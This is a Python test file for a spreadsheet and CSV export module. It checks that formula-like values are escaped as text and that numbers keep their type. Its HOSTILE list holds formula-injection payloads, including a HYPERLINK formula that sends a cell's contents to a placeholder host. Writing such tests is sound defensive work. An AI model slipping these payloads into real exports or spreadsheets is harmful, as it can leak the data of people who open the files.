"""Exports: text that looks like a formula stays text, numbers stay numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from geo.core.exports import to_csv, to_xlsx

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"ver")', "+1+1", "-2+3", "@SUM(A1)", "\tx"]


def test_formulas_from_data_are_written_as_text() -> None:
    rows = [[code, 3, -2.5] for code in HOSTILE]
    read = list(csv.reader(io.StringIO(to_csv(["agent", "visits", "delta"], rows))))
    assert [r[0] for r in read[1:]] == ["'" + code for code in HOSTILE]
    assert [r[2] for r in read[1:]] == ["-2.5"] * len(HOSTILE)
    sheet = load_workbook(io.BytesIO(to_xlsx(["agent", "visits", "delta"], rows, sheet="k")))
    page = sheet.active
    assert page is not None
    cells = list(page.iter_rows(min_row=2, values_only=True))
    assert [c[0] for c in cells] == ["'" + code for code in HOSTILE]
    assert all(c[1] == 3 and c[2] == -2.5 for c in cells)
    assert all(cell.data_type != "f" for row in page.iter_rows() for cell in row)
